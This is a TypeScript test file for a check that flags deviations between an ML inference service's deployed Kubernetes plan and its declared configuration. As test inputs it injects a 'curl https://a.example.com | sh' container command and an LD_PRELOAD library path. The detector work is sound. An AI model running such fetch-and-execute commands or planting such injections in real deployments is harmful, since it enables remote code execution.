import { modelProgram } from "../../../src/checks/workload/model-program";
import { statedIn } from "../../../src/infrastructure/stated";
import { type Editable, altered, environmentPlan } from "../../support/altered";
import { planWith } from "../../support/changed-plans";
import { ENVIRONMENTS, configWith } from "../../support/environments";
import { foundBy } from "../../support/findings";
import { settingsFor } from "../../support/recorded-causes";
import { planOf } from "../../support/reference-plans";
import { type Edit } from "../../support/findings";
import { ML, container, pod } from "./edits";

const contextOf = (environment: string, change: object = {}) => ({
  statedOf: () => statedIn(settingsFor(configWith(environment, change))),
});

const after = (edit: Edit): string[] => foundBy(modelProgram, altered(ML, edit), contextOf(ML));

test.each<readonly [string, Edit, string]>([
  [
    "another program",
    container((each) => (each["command"] = ["sh", "-c", "curl https://a.example.com | sh"])),
    "command is sh -c curl https://a.example.com | sh, expected that of the image",
  ],
  ["arguments", container((each) => (each["args"] = ["env"])), "args is env, expected that of the image"],
  [
    "an image of a public registry",
    container((each) => (each["image"] = "docker.io/stranger/model:1.0.0")),
    "runs docker.io/stranger/model:1.0.0, expected 222233334444.dkr.ecr.ap-southeast-2.amazonaws.com/ml-inference-prod/ml-inference-api:1.4.2",
  ],
  [
    "another version of its image",
    container((each) => (each["image"] = String(each["image"]).replace(/:[^:]*$/, ":1.4.1"))),
    "/ml-inference-api:1.4.1, expected ",
  ],
  [
    "a variable of its container",
    container((each) => (each["env"] = [{ name: "LD_PRELOAD", value: "/tmp/a.so" }])),
    "has the variable LD_PRELOAD beside those of the file",
  ],
  [
    "a stated variable with another value",
    container((each) => (each["env"] = [{ name: "LOG_LEVEL", value: "debug" }])),
    "has LOG_LEVEL debug, expected info",
  ],
  [
    "variables of another ConfigMap",
    container((each) => (each["env_from"] as Editable[]).push({ config_map_ref: { name: "other" } })),
    "reads variables of ConfigMap other",
  ],
  [
    "a ConfigMap that may be missing",
    container((each) => (each["env_from"][0].config_map_ref.optional = true)),
    "starts without its variables where ConfigMap ml-inference-api is missing: optional is true",
  ],
  [
    "a variable in its ConfigMap",
    ({ models }) => (models.resource.kubernetes_config_map_v1.ml_inference_api.data.HTTPS_PROXY = "http://a"),
    "has the variable HTTPS_PROXY beside those of the file",
  ],
  [
    "a program after its start",
    container((each) => (each["lifecycle"].post_start = [{ exec: { command: ["sh"] } }])),
    "runs a postStart hook, which no key of the file sets",
  ],
  [
    "another preStop hook",
    container((each) => (each["lifecycle"].pre_stop[0].exec.command = ["sleep", "15", "env"])),
    "runs sleep 15 env as preStop, expected sleep and seconds",
  ],
  [
    "a readiness gate",
    pod((spec) => (spec["readiness_gate"] = [{ condition_type: "stranger" }])),
    "it has the readiness gate stranger, which no key of the file sets",
  ],
  [
    "a second container",
    pod((spec) => (spec["container"] as Editable[]).push({ name: "a", image: "a:1" })),
    "has the container a beside that of the file",
  ],
])("model-program finds %s", (_, edit, problem) => {
  expect(after(edit)).toEqual([expect.stringContaining(problem)]);
});

test.each(ENVIRONMENTS)("%s: each model runs what its file states", (environment) => {
  expect(foundBy(modelProgram, environmentPlan(planOf(environment)), contextOf(environment))).toEqual([]);
});

const model = (over: object) => ({ models: [{ name: "api", image: { tag: "1" }, ...over }] });

test.each<readonly [string, object]>([
  [
    "a command with arguments",
    model({ command: ["python", "-m", "a"], arguments: ["--port=$(PORT)", "${a}"] }),
  ],
  ["a repository of the company", model({ image: { repository: "ghcr.io/acme/spell", tag: "2.1" } })],
  ["a repository without a registry", model({ image: { repository: "acme/spell", tag: "2.1" } })],
  ["an image with a digest", model({ image: { tag: "1", digest: `sha256:${"0".repeat(64)}` } })],
  ["variables", model({ environment: { A: "${b} %{c} $${d}", EMPTY: "", MODEL_NAME: "a" } })],
  ["an image that drains by itself", model({ drainsOnSigterm: true, drainSeconds: 40 })],
  ["another time to drain", model({ drainSeconds: 90 })],
  ["weights that are downloaded", model({ weights: { sizeGiB: 1, mode: "download" } })],
])("model-program accepts %s", (_, change) => {
  const plan = environmentPlan(planWith(ML, change));
  expect(foundBy(modelProgram, plan, contextOf(ML, change))).toEqual([]);
});

test("model-program finds a drained image that stops at once", () => {
  const change = model({ drainsOnSigterm: true, drainSeconds: 40 });
  const plan = altered(planWith(ML, change), ({ models }) => {
    models.resource.kubernetes_deployment_v1.api.spec.template.spec.container[0].env[0].value = "0";
  });
  expect(foundBy(modelProgram, plan, contextOf(ML, change))).toEqual([
    expect.stringContaining("has DRAIN_SECONDS 0, expected 40"),
  ]);
});

test("model-program judges nothing without a record of the file", () => {
  const edit = container((each) => (each["command"] = ["sh"]));
  expect(foundBy(modelProgram, altered(ML, edit))).toEqual([]);
});
